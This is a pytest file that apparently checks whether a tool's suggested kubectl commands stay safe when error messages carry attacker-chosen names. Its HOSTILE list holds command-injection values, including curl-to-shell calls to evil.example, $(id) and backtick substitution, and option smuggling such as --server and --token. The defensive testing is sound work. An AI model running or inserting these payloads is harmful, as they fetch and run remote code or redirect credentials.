"""Nothing that others have written into a message may run when a command is pasted."""

import functools
import itertools
import re
import shlex
import shutil

import pytest

from helpers.language import translate
from helpers.messages import Advice, explain_text, pasted
from helpers.messages.rules import Rule, rules
from tests.helpers.messages.node import as_data, in_node

#: what somebody could call an object, a user or a host
HOSTILE = (
    "x;curl evil.example|sh",
    "x;curl${IFS}evil.example|sh",
    "$(id)",
    "`id`",
    "x`;id;`",
    "x`;curl${IFS}evil.example|sh;`",
    "it's",
    "'$(id)'",
    "'\"$(id)\"'",
    "x&&id",
    "x>x",
    "x #",
    "x\nid",
    "-oyaml",
    "--server=https://evil.example",
    "--token",
    "x --token=y",
)
OPERATORS = "();<>|&$`"
#: options of the commands that make a Role, and of the check
OF_ROLES = {
    *("--verb", "--resource", "--resource-name", "--namespace", "--non-resource-url"),
    *("--role", "--clusterrole", "--user", "--serviceaccount"),
    *("--as", "--subresource", "-n", "-A"),
}


def tokens(command: str) -> list[str]:
    """Return the words of a command, as a shell reads them, and its operators."""
    words = shlex.shlex(command, posix=True, punctuation_chars=OPERATORS)
    words.whitespace_split, words.commenters = True, ""
    return [*words]


def shape(command: str) -> list[str]:
    """Return the operators of a command, its options, and where other words are."""
    return [
        word
        if word.strip(OPERATORS) == ""
        else word.partition("=")[0]
        if word.startswith("-")
        else ""
        for word in tokens(command)
    ]


def spans(template: str, text: str) -> list[str]:
    """Return the commands between backticks; what is a value alone is no command."""
    told = zip(template.split("`")[1::2], text.split("`")[1::2], strict=True)
    return [found for part, found in told if not re.fullmatch(r"\{\w+\}", part)]


def shapes(rule: Rule, advice: Advice) -> list[list[str]]:
    """Return the shapes of what is to be pasted."""
    cause = spans(translate(rule.cause), advice.why)
    way = spans(translate(rule.way), advice.hint)
    ask = [] if rule.role else [advice.ask]
    return [shape(command) for command in (*ask, *cause, *way)]


def attacks(rule: Rule) -> list[str]:
    """Return the examples of a rule with each of their values hostile in turn."""
    texts = []
    for example in rule.examples:
        spaced = pasted.readings(example)[0]
        match = re.search(rule.pattern, spaced)
        if not match:
            continue
        for name, evil in itertools.product(match.re.groupindex, HOSTILE):
            start, end = match.span(name)
            if start >= 0:
                texts.append(spaced[:start] + evil + spaced[end:])
    return texts


# Not when this file is collected: it takes seconds, in each worker.
@functools.cache
def successful_attacks() -> list[tuple[Rule, str]]:
    """Return each attack that its rule takes for its message."""
    return [
        (rule, text)
        for rule in rules()
        for text in attacks(rule)
        if explain_text(text).rule == rule.id
    ]


def test_rules_have_values_and_attacks_get_through():
    """What is tested here happens: most rules with values take some hostile ones."""
    valued = {rule.id for rule in rules() if attacks(rule)}
    reached = {rule.id for rule, _ in successful_attacks()}
    assert len(valued) > 40 and len(reached) > len(valued) / 2
    texts = [text for _, text in successful_attacks()]
    assert all(any(evil in text for text in texts) for evil in HOSTILE)


@pytest.mark.parametrize("language", ["en", "ko"])
def test_a_hostile_value_is_one_word_of_a_command(language, monkeypatch):
    monkeypatch.setenv("LAB_LANG", language)
    benign = {rule.id: shapes(rule, explain_text(rule.examples[0])) for rule in rules()}
    for rule, text in successful_attacks():
        assert shapes(rule, explain_text(text)) == benign[rule.id], (rule.id, text)


def test_a_role_of_hostile_names_has_no_other_option():
    roles = [(rule, text) for rule, text in successful_attacks() if rule.role]
    assert len(roles) > 20
    for _, text in roles:
        advice = explain_text(text)
        for command in (advice.ask, *advice.commands):
            options = {part for part in shape(command) if part}
            assert options <= OF_ROLES, (text, command)
            assert tokens(command)[:2] in (["kubectl", "auth"], ["kubectl", "create"])


@pytest.mark.parametrize("language", ["en", "ko"])
@pytest.mark.parametrize("rule", rules(), ids=lambda rule: rule.id)
def test_no_rule_puts_a_value_into_quotes(rule, language, monkeypatch):
    """There the quotes of a value would end them, or a `$` in it would count."""
    monkeypatch.setenv("LAB_LANG", language)
    texts = [translate(text) for text in (rule.cause, rule.way)]
    parts = [part for text in texts for part in text.split("`")[1::2]]
    for command in (rule.ask, *parts):
        for place in re.finditer(r"(?<!\{)\{\w+\}", command):
            before = command[: place.start()]
            assert before.count("'") % 2 == before.count('"') % 2 == 0, command


@pytest.mark.skipif(not shutil.which("node"), reason="Node is not here")
@pytest.mark.parametrize("language", ["en", "ko"])
def test_the_script_quotes_the_same(language, monkeypatch):
    monkeypatch.setenv("LAB_LANG", language)
    texts = [text for _, text in successful_attacks()]
    for text, said in zip(texts, in_node(texts, translate), strict=True):
        assert said == as_data(explain_text(text)), text
